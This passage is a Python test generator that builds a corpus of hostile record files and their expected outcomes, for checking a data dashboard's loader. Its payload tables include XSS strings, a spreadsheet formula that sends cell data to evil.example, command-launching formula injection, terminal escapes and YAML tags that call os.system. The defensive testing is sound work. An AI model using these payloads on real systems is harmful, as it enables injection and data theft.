"""A corpus of hostile record files, generated (never hand-copied), each with what loading it must give.

    python tests/hostile/hostile_corpus.py OUT_DIR [--no-slow]   # write the corpus and list what each entry expects
    python tests/hostile/hostile_corpus.py --report PATH ...     # load PATH ... together; print the outcome as JSON
    python tests/hostile/hostile_corpus.py --report-each JSON    # {"PATH": SECONDS}: each alone, in a child killed
                                                                 # after SECONDS; print the outcomes as JSON
    (with PYTHONPATH=tests: the script imports `tests_support`)

    from hostile_corpus import write_corpus
    expectations = write_corpus(folder)                    # {"text/hostile-text.yaml": Expectation(...), ...}

Every entry starts from the valid record of `tests_support` and breaks something: hostile text in every text
field, dates pandas cannot hold, impossible dates, wrong types, NaN and infinity, YAML aliases, an alias bomb
and tags, deep nesting, huge and binary files, other encodings, line endings, duplicate ids, truncated files.
Its `Expectation` says, record by record where records can be told apart, which must load and which must be
rejected (at which line and field), and how long loading the file may take.

Entries under ``pathological/`` could take a process down (deep nesting, an alias bomb, 100,000 columns) and
entries under ``slow/`` are large: load them in a subprocess with a time limit. Everything else is safe to
load in-process. Ids are unique across the corpus, except `DUPLICATE_ID`, which three files share.

`load_report` and `invariant_violations` say what any load of any input must satisfy, so the corpus tests and
the property tests check the same things.
"""

from __future__ import annotations

import argparse
import copy
import json
import math
import os
import re
import signal
import sys
import tempfile
import time
import traceback
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import yaml

from dashboard.model.schema import FIELDS, SOURCE_FIELDS, Kind, csv_source_column
from tests_support import VALID_RECORD

LOAD, REJECT, EITHER = "load", "reject", "either"  # the fate of a record: EITHER = loaded or rejected, both fine
PATHOLOGICAL_DIR, SLOW_DIR = "pathological", "slow"
DUPLICATE_ID = "duplicate-across-files"
ID_RULE = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]*")  # README: "letters, digits, '.', '_', '-'"
SEED = 20241009

# Text that attacks where record text is shown: HTML and scripts, Markdown and Streamlit markup, spreadsheets,
# terminals (control characters, ANSI escapes, a forged summary line), bidirectional overrides, sheer size.
HOSTILE_TEXT: dict[str, str] = {
    "script": "</script><script>window.pwned=1</script>",
    "img-onerror": '<img src=x onerror="window.pwned=1">',
    "markdown": "![pixel](http://evil.example/pixel.png) [click](javascript:window.pwned=1) **bold** <b>b</b>",
    "streamlit-markup": ":material/warning: :red[ALERT] $\\sqrt{x}$ :rocket:",
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "nul": "before\x00after",
    "c0-c1-controls": "ctl " + "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), 127, *range(0x80, 0xA0)])),
    "ansi": "\x1b[2J\x1b[1;31mALERT\x1b[0m\x1b]0;owned\x07\x1b[A",
    "newlines": "first line\nsecond line\r\nthird\rfourth",
    "fake-summary": "\n99 read, 99 loaded, 0 rejected",
    "bidi": "\u202eexe.txt\u202c \u2066isolate\u2069 zero\u200bwidth\u200djoiner\ufeff",
    "line-separators": "one\u2028two\u2029three\x85four",
    "long": "A" * 100_000,
    "emoji": "💥🚀 🇺🇦 👨‍👩‍👧‍👦 🏳️‍🌈 e\u0301 \U0001d54f",
}
# Payloads holding control characters: a text field with them may be loaded (and escaped wherever shown) or
# rejected; the others are ordinary text and must load.
CONTROL_PAYLOADS = frozenset({"nul", "c0-c1-controls", "ansi", "line-separators"})
BRIEFING_PAYLOADS = [name for name in HOSTILE_TEXT if name != "long"]  # small enough for slides and images

OUT_OF_RANGE_DATES = [
    "2999-01-01",
    "9999-12-31",
    "0001-01-01",
    "1600-01-01",
    "10000-01-01",
    "9999-12-31T23:59:59+14:00",
]
IMPOSSIBLE_DATES = [
    "2024-02-30",
    "2023-02-29",
    "2024-13-01",
    "2024-04-31",
    "2024-00-10",
    "2024-10-00",
    "2024-10-09T25:61:00",
]

# A record with every kind of field filled in, so every text field can carry a payload.
RICH_RECORD = copy.deepcopy(VALID_RECORD) | {
    "origin": {"place": "Najin", "country": "PRK", "lat": 42.2464, "lon": 130.3, "precision": "city"},
    "destination": {"place": "Dunai", "country": "RUS", "lat": 42.8833, "lon": 132.35},
    "notes": "Curator's note.",
}
RICH_RECORD["figures"] = RICH_RECORD["figures"] | {"quantity": 10, "quantity_unit": "containers"}
RICH_RECORD["origin"].pop("precision")

_FLAT_NAME = {schema_field.path: schema_field.name for schema_field in FIELDS}
TEXT_PATHS: list[tuple] = [schema_field.path for schema_field in FIELDS if schema_field.kind is Kind.TEXT] + [
    ("sources", 0, source_field.name) for source_field in SOURCE_FIELDS if source_field.kind is Kind.TEXT
]
# Fields whose value must be one of a list, a registry entry, a date, a number or an address: hostile text
# there is always an error.
CODED_PATHS: list[tuple] = [
    ("type",),
    ("actors", "initiator"),
    ("actors", "counterpart"),
    ("weapon",),
    ("location", "country"),
    ("location", "precision"),
    ("date", "precision"),
    ("confidence", "level"),
    ("figures", "claimed_distance", "unit"),
    ("date", "start"),
    ("date", "end"),
    ("location", "lat"),
    ("figures", "killed", "best"),
    ("sources", 0, "published"),
    ("sources", 0, "url"),
]
CONTAINER_PATHS: list[tuple] = [
    ("date",),
    ("actors",),
    ("location",),
    ("figures",),
    ("figures", "killed"),
    ("figures", "claimed_distance"),
    ("confidence",),
    ("origin",),
]
NUMBER_PATHS: list[tuple] = [
    ("location", "lat"),
    ("location", "lon"),
    ("origin", "lat"),
    ("figures", "killed", "best"),
    ("figures", "personnel"),
    ("figures", "quantity"),
    ("figures", "claimed_distance", "value"),
]


# --- expectations ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Record:
    """One record of an entry: where it is written and whether it must load."""

    fate: str  # LOAD, REJECT or EITHER
    line: int | None = None  # first line of the record (1-based); None when records cannot be told apart
    last_line: int | None = None  # its last line: a problem may point anywhere from line to last_line
    record_id: str | None = None  # the id it is written with, when that id is a valid one
    field: str = ""  # REJECT: the field at fault ("latitude", "sources[1].url", "date"); "" = the record itself


@dataclass(frozen=True)
class Expectation:
    """What loading one corpus file must give (besides the invariants every load keeps)."""

    what: str
    records: tuple[Record, ...] = ()
    loaded: int | None = None  # records that must load, for files whose records cannot be listed
    reported: bool | None = None  # True: a problem must name the file; False: none may; None: as the records say
    seconds: float = 15.0  # processor time the load may take, at most
    exportable: bool = False  # its loaded records carry hostile text: the exports and pages get them

    @property
    def loaded_range(self) -> tuple[int, int]:
        """Fewest and most records that may load."""
        if self.loaded is not None:
            return self.loaded, self.loaded
        sure = sum(record.fate == LOAD for record in self.records)
        return sure, sure + sum(record.fate == EITHER for record in self.records)

    @property
    def must_report(self) -> bool | None:
        if self.reported is not None:
            return self.reported
        return True if any(record.fate == REJECT for record in self.records) else None


def is_slow(name: str) -> bool:
    return name.startswith(SLOW_DIR + "/")


def is_pathological(name: str) -> bool:
    """Load it in a subprocess with a time limit: it may take the process down or take long."""
    return name.startswith((PATHOLOGICAL_DIR + "/", SLOW_DIR + "/"))


# --- writing records ------------------------------------------------------------------------------------

_DELETE = object()  # as a value in `_with`: remove the key
_FROM_VALUE = object()  # as a record id in `_Entry.add`: the record's own
_YAML_BREAKS = re.compile(r"\r\n|[\r\n\x85\u2028\u2029]")  # what YAML counts as a line break
# JSON and CSV lines as an editor counts them (and the loader): CRLF, LF and a lone CR each end a line.
_LINE_BREAKS = re.compile(r"\r\n|[\r\n]")
_Dumper = getattr(yaml, "CSafeDumper", yaml.SafeDumper)  # libyaml's: the pure-Python one takes seconds on 100 kB
_UNQUOTED_DATE = re.compile(r"'(\d{4,5}-\d\d-\d\d(?:T[0-9:+-]+)?)'")


class Raw(str):
    """A value written exactly as given (``.nan``, ``NaN``, ``1e400``), never quoted by the dumper."""


@dataclass
class _Item:
    value: object  # a record (dict) or any value, or a `Raw` text written as the whole item / CSV row
    fate: str
    field: str = ""
    record_id: str | None = None


def _with(record: dict, path: tuple, value: object) -> dict:
    """A copy of ``record`` with ``value`` at ``path`` (keys and list indexes); `_DELETE` removes it."""
    result = copy.deepcopy(record)
    target = result
    for key in path[:-1]:
        if isinstance(key, int):
            target = target[key]
        else:
            if not isinstance(target.get(key), dict | list):
                target[key] = {}
            target = target[key]
    if value is _DELETE:
        target.pop(path[-1], None)
    else:
        target[path[-1]] = copy.deepcopy(value)
    return result


def flat_field(path: tuple) -> str:
    """The field name problems use for ``path``: ``("location", "lat")`` → ``latitude``."""
    if path[0] == "sources" and len(path) == 3:
        return f"sources[{path[1] + 1}].{path[2]}"
    return _FLAT_NAME.get(tuple(path), ".".join(map(str, path)))


def _valid_id(value: object) -> str | None:
    return value if isinstance(value, str) and ID_RULE.fullmatch(value) else None


class _Entry:
    """The records of one entry, with their fates, written in YAML, JSON or CSV."""

    def __init__(self, name: str, base: dict = VALID_RECORD) -> None:
        self.slug = re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-")
        self.base = base
        self.items: list[_Item] = []
        self.count = 0
        self.tag = ""

    def new_id(self) -> str:
        """``text-hostile-text-yaml-script-7``: the file, the tag (what the record tests) and a number."""
        self.count += 1
        return f"{self.slug}-{self.tag}-{self.count}" if self.tag else f"{self.slug}-{self.count}"

    def record(self, *changes: tuple[tuple, object], base: dict | None = None) -> dict:
        """A valid record with a fresh id and ``(path, value)`` changes."""
        result = _with(base or self.base, ("id",), self.new_id())
        for path, value in changes:
            result = _with(result, path, value)
        return result

    def add(self, value: object, fate: str, field: str = "", record_id: object = _FROM_VALUE) -> None:
        """Add a record; its id is the value's own unless ``record_id`` says otherwise (None: no id that
        identifies it, as for a duplicate)."""
        if record_id is _FROM_VALUE:
            record_id = value.get("id") if isinstance(value, dict) else None
        self.items.append(_Item(value, fate, field, _valid_id(record_id)))

    def valid(self, base: dict | None = None) -> dict:
        record = self.record(base=base)
        self.add(record, LOAD)
        return record

    def changed(self, path: tuple, value: object, fate: str, field: str | None = None) -> None:
        """A record with ``value`` at ``path``; REJECT expects the error on ``field`` (default: the path's)."""
        self.add(self.record((path, value)), fate, flat_field(path) if field is None else field)

    # --- writing

    def yaml(self, *, unquote_dates: bool = False, indent: str = "") -> tuple[str, tuple[Record, ...]]:
        chunks = []
        for item in self.items:
            chunk = item.value if isinstance(item.value, Raw) else _yaml_item(item.value)
            if unquote_dates:
                chunk = _UNQUOTED_DATE.sub(r"\1", chunk)
            chunks.append("".join(indent + line for line in chunk.splitlines(keepends=True)))
        return self._joined(chunks, "", "", "", _YAML_BREAKS)

    def json(self, *, single_line: bool = False) -> tuple[str, tuple[Record, ...]]:
        chunks = [
            item.value if isinstance(item.value, Raw) else _json_item(item.value, single_line) for item in self.items
        ]
        if single_line:
            return self._joined(chunks, "[", ", ", "]\n", _LINE_BREAKS)
        return self._joined(chunks, "[\n", ",\n", "\n]\n", _LINE_BREAKS)

    def csv(self, *, header: list[str] | None = None) -> tuple[str, tuple[Record, ...]]:
        rows = [None if isinstance(item.value, Raw) else flat_row(item.value) for item in self.items]
        columns = header or _csv_columns([row for row in rows if row is not None])
        chunks = [
            item.value + "\n" if row is None else csv_line([row.get(column, "") for column in columns])
            for item, row in zip(self.items, rows, strict=True)
        ]
        return self._joined(chunks, csv_line(columns), "", "", _LINE_BREAKS)

    def _joined(
        self, chunks: list[str], head: str, separator: str, tail: str, breaks: re.Pattern
    ) -> tuple[str, tuple[Record, ...]]:
        parts, records, line = [head], [], 1 + len(breaks.findall(head))
        for number, (chunk, item) in enumerate(zip(chunks, self.items, strict=True)):
            body = chunk.rstrip("\r\n")
            records.append(Record(item.fate, line, line + len(breaks.findall(body)), item.record_id, item.field))
            glue = separator if number < len(chunks) - 1 else ""
            parts.append(chunk + glue)
            line += len(breaks.findall(chunk + glue))
        parts.append(tail)
        return "".join(parts), tuple(records)


def _raw_placeholders(value: object, raws: dict[str, str]) -> object:
    if isinstance(value, Raw):
        key = f"@@raw{len(raws)}@@"
        raws[key] = str(value)
        return key
    if isinstance(value, dict):
        return {key: _raw_placeholders(item, raws) for key, item in value.items()}
    if isinstance(value, list):
        return [_raw_placeholders(item, raws) for item in value]
    return value


def _yaml_item(value: object) -> str:
    raws: dict[str, str] = {}
    text = yaml.dump([_raw_placeholders(value, raws)], Dumper=_Dumper, sort_keys=False, allow_unicode=True, width=100)
    for key, raw in raws.items():
        text = text.replace(f"'{key}'", raw).replace(key, raw)
    return text


def _json_item(value: object, single_line: bool = False) -> str:
    raws: dict[str, str] = {}
    text = json.dumps(_raw_placeholders(value, raws), ensure_ascii=False, indent=None if single_line else 2)
    for key, raw in raws.items():
        text = text.replace(f'"{key}"', raw)
    return text


def _cell(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list | tuple):
        return ";".join(_cell(item) for item in value)
    if isinstance(value, dict):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, float) and not isinstance(value, Raw):
        return repr(value)
    return str(value)


def flat_row(record: object) -> dict[str, str]:
    """A nested record in the flat (CSV) form: one cell per field, sources as numbered columns."""
    if not isinstance(record, dict):
        return {"id": _cell(record)}
    row: dict[str, str] = {}
    for schema_field in FIELDS:
        if schema_field.kind is Kind.SOURCES:
            continue
        value: object = record
        for key in schema_field.path:
            value = value.get(key, _DELETE) if isinstance(value, dict) else _DELETE
        if value is not _DELETE:
            row[schema_field.name] = _cell(value)
    sources = record.get("sources")
    for number, source in enumerate(sources if isinstance(sources, list) else [], start=1):
        for key, value in source.items() if isinstance(source, dict) else []:
            row[csv_source_column(number, key)] = _cell(value)
    nested = {schema_field.path[0] for schema_field in FIELDS}
    for key, value in record.items():
        if key not in nested:
            row[str(key)] = _cell(value)
    return row


def _csv_columns(rows: list[dict[str, str]]) -> list[str]:
    order = [schema_field.name for schema_field in FIELDS if schema_field.kind is not Kind.SOURCES]
    seen = {column for row in rows for column in row}
    columns = [column for column in order if column in seen]
    numbers = sorted({int(m.group(1)) for column in seen if (m := re.match(r"source(\d+)_", column))})
    columns += [
        csv_source_column(number, source_field.name)
        for number in numbers
        for source_field in SOURCE_FIELDS
        if csv_source_column(number, source_field.name) in seen
    ]
    extras = dict.fromkeys(column for row in rows for column in row if column not in columns)
    return columns + list(extras)


def csv_line(cells: Sequence[str]) -> str:
    """One CSV line; a cell is quoted when it holds a comma, a quote, a line break or outer spaces."""

    def quoted(cell: str) -> str:
        if any(mark in cell for mark in ',"\r\n') or cell != cell.strip(" "):
            return '"' + cell.replace('"', '""') + '"'
        return cell

    return ",".join(quoted(cell) for cell in cells) + "\n"


def _encoded(text: str) -> bytes:
    return text.encode("utf-8", errors="surrogatepass")


# --- the entries ------------------------------------------------------------------------------------------

Builder = Callable[[str], tuple[bytes, Expectation]]
ENTRIES: dict[str, Builder] = {}


def _entry(name: str) -> Callable[[Builder], Builder]:
    def register(builder: Builder) -> Builder:
        ENTRIES[name] = builder
        return builder

    return register


def _written(entry: _Entry, fmt: str, **options: object) -> tuple[str, tuple[Record, ...]]:
    return getattr(entry, fmt)(**options)


def _formats(stem: str, formats: Sequence[str] = ("yaml", "json", "csv")) -> list[tuple[str, str]]:
    return [(f"{stem}.{fmt}", fmt) for fmt in formats]


# Hostile text: one file per payload and format.
def _text_fate(payload: str) -> str:
    return EITHER if payload in CONTROL_PAYLOADS else LOAD


def _hostile_text_entry(name: str, fmt: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name, RICH_RECORD)
    for payload_name, payload in HOSTILE_TEXT.items():
        entry.tag = payload_name
        fate = _text_fate(payload_name)
        entry.valid()
        for path in TEXT_PATHS:
            entry.changed(path, payload, fate)
        entry.add(entry.record((("tags",), [payload, "plain"])), fate, "tags")
        hostile_id = f"{entry.new_id()}-{payload}"
        entry.add(entry.record((("id",), hostile_id)), LOAD if _valid_id(hostile_id) else REJECT, "id")
        for path in CODED_PATHS:
            entry.changed(path, payload, REJECT)
        entry.changed(("actors", "associated"), [payload], REJECT)
        entry.changed(("sources", 0, "url"), "https://evil.example/?q=" + payload, EITHER)
        if fmt != "csv":  # an unknown field: a warning, no more (in CSV, see csv/hostile-column-names.csv)
            entry.add(entry.record() | {"x-" + payload: payload}, LOAD)
    text, records = _written(entry, fmt)
    what = f"each hostile text in each text field, in the id and in each coded field, as {fmt.upper()}"
    return _encoded(text), Expectation(what, records)


for _name, _fmt in _formats("text/hostile-text"):
    _entry(_name)(lambda name, fmt=_fmt: _hostile_text_entry(name, fmt))


def _every_payload_entry(name: str, fmt: str, payloads: list[str]) -> tuple[bytes, Expectation]:
    entry = _Entry(name, RICH_RECORD)
    for payload_name in payloads:
        entry.tag = payload_name
        payload = HOSTILE_TEXT[payload_name]
        record = entry.record(*[(path, payload) for path in TEXT_PATHS], (("tags",), [payload, "plain"]))
        entry.add(record, _text_fate(payload_name))
    text, records = _written(entry, fmt)
    what = f"one record per hostile text ({', '.join(payloads)}), in every text field at once, as {fmt.upper()}"
    return _encoded(text), Expectation(what, records, exportable=True)


def payload_record_id(name: str, payload: str) -> str:
    """The id of the record of ``payload`` in an every-payload entry (``text/every-payload.yaml``)."""
    payloads = BRIEFING_PAYLOADS if name == BRIEFING_ENTRY else list(HOSTILE_TEXT)
    return f"{_Entry(name).slug}-{payload}-{payloads.index(payload) + 1}"


BRIEFING_ENTRY = "text/briefing.yaml"
for _name, _fmt in _formats("text/every-payload"):
    _entry(_name)(lambda name, fmt=_fmt: _every_payload_entry(name, fmt, list(HOSTILE_TEXT)))
_entry(BRIEFING_ENTRY)(lambda name: _every_payload_entry(name, "yaml", BRIEFING_PAYLOADS))


@_entry("csv/hostile-column-names.csv")
def _hostile_column_names(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.changed(("location", "lat"), 200.0, REJECT)
    entry.valid()
    text, records = entry.csv()
    header, *rows = text.splitlines(keepends=True)
    extra = ["x-" + payload for payload in HOSTILE_TEXT.values()]
    header = header.rstrip("\n") + "," + csv_line(extra)
    rows = [row.rstrip("\n") + "," * len(extra) + "\n" for row in rows]
    shift = len(_LINE_BREAKS.findall(header)) - 1  # line breaks inside the quoted column names
    records = tuple(Record(r.fate, r.line + shift, r.last_line + shift, r.record_id, r.field) for r in records)
    return _encoded(header + "".join(rows)), Expectation("a column named after each hostile text", records)


# Dates pandas cannot hold (nanoseconds reach 1677-09-21 to 2262-04-11), and dates that do not exist.
def _dates_entry(name: str, fmt: str, dates: list[str], quoting: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    for value in dates:
        for path in (("date", "start"), ("date", "end"), ("sources", 0, "published")):
            entry.changed(path, value, REJECT)
            entry.valid()
    options: dict[str, object] = {}
    if fmt == "yaml":
        options = {"unquote_dates": quoting != "quoted", "indent": "  " if quoting == "indented" else ""}
    text, records = _written(entry, fmt, **options)
    what = f"dates {', '.join(dates)} ({quoting if fmt == 'yaml' else 'as text'}) between valid records"
    return _encoded(text), Expectation(what, records, exportable=name == "dates/impossible-unquoted.yaml")


for _quoting in ("unquoted", "quoted"):
    _entry(f"dates/out-of-range-{_quoting}.yaml")(
        lambda name, quoting=_quoting: _dates_entry(name, "yaml", OUT_OF_RANGE_DATES, quoting)
    )
for _name, _fmt in _formats("dates/out-of-range", ("json", "csv")):
    _entry(_name)(lambda name, fmt=_fmt: _dates_entry(name, fmt, OUT_OF_RANGE_DATES, "text"))
for _quoting in ("unquoted", "indented"):
    _entry(f"dates/impossible-{_quoting}.yaml")(
        lambda name, quoting=_quoting: _dates_entry(name, "yaml", IMPOSSIBLE_DATES, quoting)
    )
for _name, _fmt in _formats("dates/impossible", ("json", "csv")):
    _entry(_name)(lambda name, fmt=_fmt: _dates_entry(name, fmt, IMPOSSIBLE_DATES, "text"))


# Wrong types everywhere: lists for text, mappings for dates, booleans, nulls.
WRONG_VALUES: dict[str, object] = {"list": ["a", "b"], "mapping": {"a": 1}, "boolean": True, "null": None}
_REQUIRED = {schema_field.path for schema_field in FIELDS if schema_field.required}
# Optional fields whose absence another field makes an error: only one coordinate, a unit without a value.
_NULL_REJECTS = {
    ("location", "lat"): "",
    ("location", "lon"): "",
    ("figures", "claimed_distance", "value"): "claimed_distance",
    ("figures", "claimed_distance", "unit"): "claimed_distance_unit",
}
_NULL_CONTAINER_REJECTS = {("date",): "", ("actors",): "initiator", ("location",): "", ("confidence",): "confidence"}


def _null_fate(path: tuple) -> tuple[str, str]:
    if path in _REQUIRED:
        return REJECT, flat_field(path)
    if path in _NULL_REJECTS:
        return REJECT, _NULL_REJECTS[path]
    return LOAD, ""


def _wrong_types_entry(name: str, fmt: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    for schema_field in FIELDS:
        if schema_field.kind is Kind.SOURCES:
            continue
        for kind, value in WRONG_VALUES.items():
            if kind == "list" and schema_field.kind in (Kind.ACTORS, Kind.TAGS):
                continue  # a list is what these hold
            if kind == "null":
                fate, at = _null_fate(schema_field.path)
                entry.changed(schema_field.path, value, fate, at)
            else:
                entry.changed(schema_field.path, value, REJECT)
    for path in CONTAINER_PATHS:
        for value in ("text", ["a"], True, 7):
            entry.changed(path, value, REJECT, ".".join(path))
        if path in _NULL_CONTAINER_REJECTS:
            entry.changed(path, None, REJECT, _NULL_CONTAINER_REJECTS[path])
        else:
            entry.changed(path, None, LOAD)
    for value in ({"publisher": "AP", "title": "t"}, "AP", True, ["AP"], [], [[]], None):
        entry.changed(("sources",), value, REJECT, "sources")
    for source_field in SOURCE_FIELDS:
        path = ("sources", 0, source_field.name)
        for kind, value in WRONG_VALUES.items():
            if kind == "null" and not source_field.required:
                entry.changed(path, value, LOAD)
            else:
                entry.changed(path, value, REJECT)
    for value in ("a record that is text", 42, True, None, ["a", "list"], []):
        entry.add(value, REJECT)
    entry.valid()
    text, records = _written(entry, fmt)
    return _encoded(text), Expectation(f"lists, mappings, booleans and nulls in every field, as {fmt.upper()}", records)


for _name, _fmt in _formats("types/wrong-types", ("yaml", "json")):
    _entry(_name)(lambda name, fmt=_fmt: _wrong_types_entry(name, fmt))

CSV_WRONG_TEXT = {"boolean": "true", "list": "[1, 2]", "mapping": "{'a': 1}", "empty": ""}


@_entry("types/wrong-types.csv")
def _wrong_types_csv(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    for schema_field in FIELDS:
        if schema_field.kind in (Kind.SOURCES, Kind.TEXT, Kind.TAGS):
            continue
        for kind, value in CSV_WRONG_TEXT.items():
            if kind == "empty":
                fate, at = _null_fate(schema_field.path)
                entry.changed(schema_field.path, value, fate, at)
            elif schema_field.kind is Kind.ID and kind == "boolean":
                entry.add(entry.record((("id",), value)), LOAD)  # "true" is a valid id in CSV, where all is text
            else:
                entry.changed(schema_field.path, value, REJECT)
    for source_field in SOURCE_FIELDS:
        if source_field.kind is not Kind.TEXT:
            entry.changed(("sources", 0, source_field.name), "[1, 2]", REJECT)
    entry.valid()
    text, records = entry.csv()
    return _encoded(text), Expectation("text that is no number, date, code or list in every coded column", records)


# NaN and infinity in every number field: as YAML spells them, as JSON does, and as text.
NON_FINITE = {
    "yaml": [
        ".nan",
        ".NaN",
        ".NAN",
        ".inf",
        ".Inf",
        "+.inf",
        "-.inf",
        "-.Inf",
        "1.0e+400",
        "'.nan'",
        "'nan'",
        "'-Infinity'",
    ],
    "json": ["NaN", "Infinity", "-Infinity", "1e400", "-1e400", '"NaN"', '"Infinity"', '"-inf"'],
    "csv": ["nan", "NaN", "NAN", "inf", "-inf", "+inf", "Infinity", "-Infinity", "1e400", "-1e400", " nan "],
}


def _non_finite_entry(name: str, fmt: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name, RICH_RECORD)
    entry.valid()
    for spelling in NON_FINITE[fmt]:
        for path in NUMBER_PATHS:
            entry.changed(path, Raw(spelling), REJECT)
        entry.valid()
    if fmt == "json":  # integers no float can hold
        entry.changed(("location", "lat"), Raw("1" + "0" * 400), REJECT)
        entry.changed(("figures", "killed", "best"), Raw("1" + "0" * 400), EITHER)
        entry.valid()
    text, records = _written(entry, fmt)
    what = f"NaN and infinity in every number field, as {fmt.upper()}"
    return _encoded(text), Expectation(what, records, exportable=fmt == "yaml")


for _name, _fmt in _formats("numbers/non-finite"):
    _entry(_name)(lambda name, fmt=_fmt: _non_finite_entry(name, fmt))


# YAML: aliases and anchors, tags, oddities.
def _yaml_with(record: dict, old: str, new: str) -> Raw:
    text = _yaml_item(record)
    assert old in text, (old, text)
    return Raw(text.replace(old, new, 1))


@_entry("yaml/aliases.yaml")
def _aliases(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    anchored = entry.record()
    entry.add(Raw(_yaml_item(anchored).replace("- ", "- &base\n  ", 1)), LOAD, record_id=anchored["id"])
    entry.add(Raw("- *base\n"), REJECT)
    entry.add(Raw(f"- <<: *base\n  id: {entry.new_id()}\n"), REJECT)
    record = entry.record((("title",), "ANCHORED"), (("summary",), "ALIASED"))
    text = (
        _yaml_item(record).replace("title: ANCHORED", "title: &t Anchored").replace("summary: ALIASED", "summary: *t")
    )
    entry.add(Raw(text), REJECT)
    shared = entry.record((("title",), "SHARED"))
    entry.add(_yaml_with(shared, "title: SHARED", "title: &shared Shared title"), LOAD, record_id=shared["id"])
    entry.add(_yaml_with(entry.record((("title",), "USES")), "title: USES", "title: *shared"), REJECT)
    entry.valid()
    text, records = entry.yaml()
    return _encoded(text), Expectation("anchors, aliases to whole records and to fields, a merge key", records)


_TAGGED_TITLES = {
    "!!python/object/apply:os.system ['touch hostile-yaml-tag-ran']": REJECT,
    "!!python/name:os.system": REJECT,
    "!!python/object/new:builtins.str ['x']": REJECT,
    "!<tag:yaml.org,2002:python/object/apply:subprocess.check_output> [['touch', 'hostile-yaml-tag-ran']]": REJECT,
    "!custom local tag": REJECT,
    "!!binary aGVsbG8=": EITHER,
    "!!str 123": LOAD,
}


@_entry("yaml/tags.yaml")
def _tags(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.add(Raw("- !!python/object/apply:os.system ['touch hostile-yaml-tag-ran']\n"), REJECT)
    for tagged, fate in _TAGGED_TITLES.items():
        record = entry.record((("title",), "TAGGED"))
        entry.add(_yaml_with(record, "title: TAGGED", f"title: {tagged}"), fate, record_id=record["id"])
    record = entry.record((("tags",), "TAGGED"))
    entry.add(_yaml_with(record, "tags: TAGGED", "tags: !!set {a: null, b: null}"), EITHER, record_id=record["id"])
    record = entry.record((("date", "start"), "TAGGED"))
    entry.add(_yaml_with(record, "start: TAGGED", "start: !!timestamp 2024-10-09"), EITHER, record_id=record["id"])
    record = entry.record((("location", "lat"), "TAGGED"))
    entry.add(_yaml_with(record, "lat: TAGGED", "lat: !!float .nan"), REJECT, "latitude", record["id"])
    entry.valid()
    text, records = entry.yaml()
    return _encoded(text), Expectation("YAML tags: python objects, local tags, binary, set, timestamp", records)


@_entry("yaml/oddities.yaml")
def _yaml_oddities(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    record = entry.record()
    entry.add(Raw(_yaml_item(record) + "  ? [a, b]\n  : complex key\n"), REJECT, record_id=record["id"])
    record = entry.record((("title",), "FIRST"))
    entry.add(_yaml_with(record, "title: FIRST", "title: first\n  title: second"), EITHER, record_id=record["id"])
    record = entry.record((("location", "country"), "NORWAY"))
    entry.add(_yaml_with(record, "country: NORWAY", "country: NO"), REJECT, "country", record["id"])
    record = entry.record((("id",), "2031-01-01"))
    entry.add(_yaml_with(record, "id: '2031-01-01'", "id: 2031-01-01"), LOAD, record_id="2031-01-01")
    record = entry.record((("id",), "IDNUMBER"))
    entry.add(_yaml_with(record, "id: IDNUMBER", "id: 20310102"), EITHER)
    record = entry.record((("title",), "SURROGATE"))
    entry.add(_yaml_with(record, "title: SURROGATE", 'title: "\\uD800 alone"'), EITHER, record_id=record["id"])
    entry.add(entry.record() | {"k" * 10_000: "a key of 10,000 characters"}, LOAD)
    entry.add(entry.record() | {"\x1b[31mkey\n99 read, 99 loaded, 0 rejected": 1}, LOAD)
    record = entry.record((("title",), "TABBED"))
    entry.add(_yaml_with(record, "title: TABBED", "title: tabbed\n\tsummary: indented with a tab"), REJECT)
    entry.valid()
    text, records = entry.yaml()
    return _encoded(text), Expectation(
        "complex and duplicate keys, NO as a boolean, date-like and numeric ids, a surrogate, huge and hostile "
        "keys, a tab",
        records,
        exportable=True,
    )


@_entry("yaml/raw-controls.yaml")
def _yaml_raw_controls(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    for control in ("\x1b", "\x00", "\x07"):
        entry.valid()
        record = entry.record((("title",), "CONTROL"))
        entry.add(
            _yaml_with(record, "title: CONTROL", f'title: "before{control}after"'), REJECT, record_id=record["id"]
        )
    entry.valid()
    text, records = entry.yaml()
    return _encoded(text), Expectation("raw ESC, NUL and BEL characters, which YAML does not allow", records)


@_entry("yaml/two-documents.yaml")
def _two_documents(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    first, second = _yaml_item(entry.record()), _yaml_item(entry.record())
    text = first + "---\n" + second
    return _encoded(text), Expectation("two YAML documents", (Record(EITHER), Record(EITHER)), reported=True)


@_entry("yaml/flow-list.yaml")
def _flow_list(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.changed(("location", "lat"), 200.0, REJECT)
    entry.valid()
    text, records = entry.json(single_line=False)  # JSON is YAML's flow style
    return _encoded(text), Expectation("records as a flow list ([{...}, ...]), one rejected", records)


# JSON oddities.
def _unread_after_break(records: tuple[Record, ...]) -> tuple[Record, ...]:
    """JSON cannot resume after a record it cannot read: the records after it may go unread (the problem
    about the broken one says so), so they have no line of their own to be reported at."""
    broken = next(number for number, record in enumerate(records) if record.fate == REJECT)
